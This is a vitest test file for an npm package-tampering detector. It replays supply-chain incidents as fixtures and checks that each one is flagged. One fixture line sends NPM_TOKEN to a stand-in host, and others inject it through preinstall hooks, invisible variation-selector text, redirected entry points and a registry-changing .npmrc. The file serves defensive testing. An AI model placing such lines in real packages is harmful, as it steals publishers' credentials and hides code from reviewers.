import { describe, expect, test } from 'vitest';
import { explainAll } from '../../src/explain/explain-all.ts';
import { textDifference } from '../../src/compare/text-diff.ts';
import { entriesOf, type Files, judged, packed, PACKAGES } from '../support/judged.ts';
import type { EntrySpec } from '../support/tarball.ts';

/** Replays of what incidents from 2018 to 2026 put into artifacts; the payloads are harmless. */
const PAYLOAD = "require('https').get('https://collect.example/' + process.env.NPM_TOKEN);\n";

const isScript = (path: string) => /\.[cm]?js$/.test(path);
const scriptOf = (files: Files) => Object.keys(files).find(isScript) ?? '';

function withFields(files: Files, fields: object): Files {
  const manifest = JSON.parse(files['package.json'] ?? '{}') as object;
  return { ...files, 'package.json': JSON.stringify({ ...manifest, ...fields }, null, 2) };
}

/** A text in variation selectors, one for each byte: nothing is to be seen of it. */
const unseen = (text: string) =>
  [...Buffer.from(text)].map((byte) => String.fromCodePoint(0xe0100 + byte)).join('');

interface Incident {
  readonly attack: (files: Files) => Files;
  /** Kind, severity and path of what must be found; `SCRIPT` is the package's first script. */
  readonly found: readonly (readonly [kind: string, severity: string, path: string])[];
}

const INCIDENTS: Readonly<Record<string, Incident>> = {
  'a file that nothing runs (a variant of Shai-Hulud)': {
    attack: (files) => ({ ...files, 'bundle.js': PAYLOAD }),
    found: [['file-added', 'high', 'bundle.js']],
  },
  'an install script and its file (ua-parser-js, nx)': {
    attack: (files) => ({
      ...withFields(files, { scripts: { preinstall: 'node setup.mjs' } }),
      'setup.mjs': PAYLOAD,
    }),
    found: [
      ['lifecycle-script-added', 'critical', 'package.json'],
      ['file-added', 'critical', 'setup.mjs'],
    ],
  },
  'an install script without its file': {
    attack: (files) => withFields(files, { scripts: { install: 'node lost.js' } }),
    found: [['lifecycle-script-added', 'critical', 'package.json']],
  },
  'lines before a script (@velora-dex/sdk)': {
    attack: (files) => ({ ...files, [scriptOf(files)]: PAYLOAD + (files[scriptOf(files)] ?? '') }),
    found: [['file-changed', 'high', 'SCRIPT']],
  },
  'a statement at the end of a script (chalk, debug)': {
    attack: (files) => ({ ...files, [scriptOf(files)]: `${files[scriptOf(files)] ?? ''};${PAYLOAD}` }),
    found: [['file-changed', 'high', 'SCRIPT']],
  },
  'a dependency and nothing else (axios)': {
    attack: (files) => withFields(files, { dependencies: { 'plain-crypto-js': '^4.2.1' } }),
    found: [['dependency-added', 'high', 'package.json']],
  },
  'an optional dependency on a commit (@tanstack)': {
    attack: (files) => withFields(files, { optionalDependencies: { evil: 'github:evil/evil#0123456' } }),
    found: [['dependency-added', 'critical', 'package.json']],
  },
  'a binding.gyp, and no script (Miasma)': {
    attack: (files) => ({ ...files, 'binding.gyp': '{"targets": [{"target_name": "x"}]}' }),
    found: [['implicit-install', 'critical', 'binding.gyp']],
  },
  'a native library (coa, eslint-config-prettier)': {
    attack: (files) => ({ ...files, 'node-gyp.dll': 'MZ\u0090\0\u0003' }),
    found: [
      ['file-added', 'high', 'node-gyp.dll'],
      ['native-program', 'high', 'node-gyp.dll'],
    ],
  },
  'a program in characters without a shape (GlassWorm)': {
    attack: (files) => ({
      ...files,
      [scriptOf(files)]: `${files[scriptOf(files)] ?? ''};decode(\`${unseen(PAYLOAD)}\`);`,
    }),
    found: [
      ['file-changed', 'high', 'SCRIPT'],
      ['hidden-text', 'high', 'SCRIPT'],
    ],
  },
  'an entry point that leads elsewhere': {
    attack: (files) =>
      withFields({ ...files, 'other.js': PAYLOAD }, { main: './other.js', exports: './other.js' }),
    found: [
      ['entry-point-redirected', 'high', 'package.json'],
      ['file-added', 'high', 'other.js'],
    ],
  },
  'an npm configuration of its own': {
    attack: (files) => ({ ...files, '.npmrc': 'registry=https://collect.example/' }),
    found: [['file-added', 'medium', '.npmrc']],
  },
};

describe.each(Object.entries(PACKAGES))('attack: on the %s package', (_name, files) => {
  const honest = packed(entriesOf(files));
  const attacked = (entries: readonly EntrySpec[]) => {
    const result = judged(files, honest, packed(entries));
    if (result === null) throw new Error('It is a package.');
    return result;
  };

  test.each(Object.entries(INCIDENTS))('%s is found and named', (_, { attack, found }) => {
    const { judgement } = attacked(entriesOf(attack(files)));
    expect(judgement).toMatchObject({ verdict: 'diverged', level: null });
    const kinds = judgement.findings.map(({ kind, severity, path }) => `${kind} ${severity} ${path ?? ''}`);
    for (const [kind, severity, path] of found) {
      const wanted = `${kind} ${severity} ${path === 'SCRIPT' ? scriptOf(files) : path}`;
      expect(kinds).toContain(wanted);
    }
  });

  test('far to the right in one line (flatmap-stream) is shown alone, with its place and what it can do', async () => {
    const script = scriptOf(files);
    const line = `${'f(1);'.repeat(1000)}\n`;
    const base = { ...files, [script]: line + (files[script] ?? '') };
    const at = 2_500;
    const injected = {
      ...base,
      [script]: base[script]?.slice(0, at) + PAYLOAD.trim() + base[script]?.slice(at),
    };
    const result = judged(base, packed(entriesOf(base)), packed(entriesOf(injected)));
    const explained = (await explainAll(result?.comparison.differences ?? [])).get(script);
    expect(explained).toMatchObject({
      total: 1,
      changes: [{ kind: 'added', offset: at, line: 1, code: PAYLOAD.trim() }],
      capabilities: expect.arrayContaining([
        { kind: 'credentials', detail: 'process.env.NPM_TOKEN' },
      ]) as unknown,
    });
  });

  test('what only people read is found, and mild', () => {
    const { judgement } = attacked(entriesOf({ ...files, 'NOTES.md': 'x' }));
    expect(judgement).toMatchObject({ verdict: 'diverged', severity: 'low' });
  });

  test('permissions to run are found', () => {
    const entries = entriesOf(files).map((one) =>
      one.name === `package/${scriptOf(files)}` ? { ...one, mode: 0o755 } : one,
    );
    expect(attacked(entries).judgement.findings).toMatchObject([
      { kind: 'mode-changed', severity: 'medium', path: scriptOf(files) },
    ]);
  });

  test.each([
    ['a bidi override', '\u202e', '<U+202E>'],
    ['a zero-width space', '\u200b', '<U+200B>'],
    ['a homoglyph', '\u0430', '\u0430'],
  ])('%s in a script is found, and what cannot be seen is shown', (_, character, shown) => {
    const script = scriptOf(files);
    const text = `${files[script] ?? ''}// ${character}\n`;
    const { judgement, comparison } = attacked(entriesOf({ ...files, [script]: text }));
    expect(judgement).toMatchObject({ verdict: 'diverged', severity: 'high' });
    const [difference] = comparison.differences;
    const { text: diff } = textDifference({
      published: difference?.published?.content ?? null,
      rebuilt: difference?.rebuilt?.content ?? null,
    });
    expect(diff).toContain(shown);
  });
});
